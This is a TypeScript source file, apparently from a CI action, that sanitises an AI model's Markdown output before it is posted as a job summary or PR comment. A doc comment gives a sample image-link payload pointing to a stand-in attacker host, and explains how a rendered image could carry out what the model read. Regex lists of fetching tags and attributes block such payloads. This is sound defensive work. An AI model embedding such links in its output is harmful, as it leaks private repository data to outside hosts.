// Markdown around text the action does not control (the model's answer, the CLI's messages and
// values, repository settings), for the job summary and the PR comment alike: that text stays text,
// and cannot close a block, start a table row or hide what follows it.

/** A fenced block that the text's own backticks cannot close. */
export function codeBlock(text: string, info: string): string {
  const longest = Math.max(0, ...(text.match(/`+/g) ?? []).map(run => run.length))
  const fence = '`'.repeat(Math.max(3, longest + 1))
  return `${fence}${info}\n${text}\n${fence}\n\n`
}

/**
 * Model text with every HTML comment opener broken by a zero-width space, so an unclosed `<!--`
 * cannot swallow the table and footer after it. It reads the same, in code blocks too.
 */
export function breakHtmlComments(text: string): string {
  return text.replace(/<!--/g, '<!\u200b--')
}

/** One table cell: on one line, its pipes escaped, no HTML comment opened. */
export function tableCell(text: string, max = 200): string {
  return breakHtmlComments(text.replace(/[\r\n\u2028\u2029]+/g, ' ').replace(/\|/g, '\\|')).slice(0, max)
}

/** A value as inline code in a table cell (`–` when there is none), whatever backticks it holds. */
export function codeCell(value: string | undefined): string {
  if (!value) return '–'
  const text = tableCell(value)
  const longest = Math.max(0, ...(text.match(/`+/g) ?? []).map(run => run.length))
  const ticks = '`'.repeat(longest + 1)
  const pad = text.startsWith('`') || text.endsWith('`') ? ' ' : ''
  return `${ticks}${pad}${text}${pad}${ticks}`
}

/** Text inline in a heading or sentence: one line, Markdown and HTML characters escaped (`_` inside words does nothing). */
export function inlineText(text: string): string {
  return text.replace(/[\r\n\u2028\u2029]+/g, ' ').replace(/[\\`*[\]<>|]/g, '\\$&')
}

/**
 * Model text made safe to post as Markdown (the job summary, the PR comment or MR note, a review's
 * body and line comments): HTML comments broken, and no image. An image is fetched by whoever opens
 * the page (GitHub through its camo proxy), so `![](https://attacker.invalid/?d=<what Claude read>)`
 * would carry data out with Read alone. A zero-width space after `!` makes `![alt](url)` (and
 * `![alt][ref]`) a link, and one after `<` makes `<img …>`, `<picture>`, `<source srcset>` and any tag
 * with a fetching attribute plain text; either reads the same. Fenced code blocks are left as they
 * are (a suggestion must apply byte for byte), where a renderer surely shows them as code: a fence at
 * the line's start, closed, outside an HTML block, and not of a kind a host draws (mermaid…).
 */
export function modelMarkdown(text: string): string {
  return markdownParts(breakHtmlComments(text))
    .map(part => (part.code ? part.text : breakImages(part.text)))
    .join('\n')
}

/** Tags that fetch what they name, whatever their attributes. */
const MEDIA_TAG =
  /<(?=(?:img|image|picture|source|video|audio|track|svg|math|input|embed|object|iframe|frame|frameset|link|meta|base|style|script|body|bgsound|portal)(?![\w-]))/gi
/** A whole tag, its attributes in any quotes, over lines. */
const TAG = /<([a-zA-Z][\w-]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g
/** An attribute a renderer may fetch from (on another tag than MEDIA_TAG: `<table background>`, `<div style>`). */
const FETCHING_ATTRIBUTE = /(?:^|[\s"'/])(?:src|srcset|poster|background|lowsrc|dynsrc|data|style)\s*=/i
/** Fence kinds GitHub or GitLab draw rather than show (mermaid can hold HTML): their text is not left alone. */
const DRAWN_FENCE = /^\s*(?:mermaid|plantuml|kroki|graphviz|vega|vega-lite|vegalite|svgbob|geojson|topojson|stl)\b/i

function breakImages(text: string): string {
  // Each replacement needs a `![` or a `<`: text with neither (most answers) skips the patterns.
  if (!text.includes('![') && !text.includes('<')) return text
  return text
    .replace(/!\[/g, '!\u200b[')
    .replace(MEDIA_TAG, '<\u200b')
    .replace(TAG, (tag: string, _name: string, attributes: string) => (FETCHING_ATTRIBUTE.test(attributes) ? `<\u200b${tag.slice(1)}` : tag))
}

/**
 * The text cut into code (fenced blocks a renderer surely shows as code) and the rest, by lines. An
 * HTML block (CommonMark's seven kinds, taken broadly) holds no fence: a ``` line in one is HTML.
 */
function markdownParts(text: string): { code: boolean; text: string }[] {
  // A fence needs a backtick or a tilde, an HTML block a `<`: without any, the text is one part.
  if (!/[`~<]/.test(text)) return [{ code: false, text }]
  const parts: { code: boolean; lines: string[] }[] = []
  const add = (code: boolean, line: string): void => {
    const last = parts.at(-1)
    if (last && last.code === code) last.lines.push(line)
    else parts.push({ code, lines: [line] })
  }
  const lines = text.split('\n')
  let html: RegExp | 'blank line' | undefined
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i]
    if (html) {
      if (html === 'blank line' ? !line.trim() : html.test(line)) html = undefined
      add(false, line)
      continue
    }
    const close = closingFence(lines, i)
    if (close !== undefined) {
      for (; i <= close; i++) add(true, lines[i])
      i = close
      continue
    }
    const end = htmlBlockEnd(line)
    if (end && !(end !== 'blank line' && end.test(line.replace(/^ {0,3}<[!?]?/, '')))) html = end
    add(false, line)
  }
  return parts.map(part => ({ code: part.code, text: part.lines.join('\n') }))
}

/** When line `i` opens a fence at its start and a later line closes it: that line's index. */
function closingFence(lines: string[], i: number): number | undefined {
  const open = /^(`{3,}|~{3,})(.*)$/.exec(lines[i])
  if (!open || (open[1][0] === '`' && open[2].includes('`')) || DRAWN_FENCE.test(open[2])) return undefined
  const closing = new RegExp(`^ {0,3}${open[1][0] === '`' ? '`' : '~'}{${open[1].length},}[ \\t]*$`)
  for (let j = i + 1; j < lines.length; j++) if (closing.test(lines[j])) return j
  // Unclosed: it would run on into what the action adds after it; its text is not left alone.
  return undefined
}

/** What ends the HTML block this line starts (CommonMark's kinds 1-5 by their end, 6 and 7 at a blank line), or undefined. */
function htmlBlockEnd(line: string): RegExp | 'blank line' | undefined {
  if (!/^ {0,3}</.test(line)) return undefined
  if (/^ {0,3}<(?:script|pre|style|textarea)(?:[\s>]|$)/i.test(line)) return /<\/(?:script|pre|style|textarea)>/i
  if (/^ {0,3}<!--/.test(line)) return /-->/
  if (/^ {0,3}<\?/.test(line)) return /\?>/
  if (/^ {0,3}<!\[CDATA\[/.test(line)) return /\]\]>/
  if (/^ {0,3}<![a-zA-Z]/.test(line)) return />/
  return /^ {0,3}<\/?[a-zA-Z]/.test(line) ? 'blank line' : undefined
}
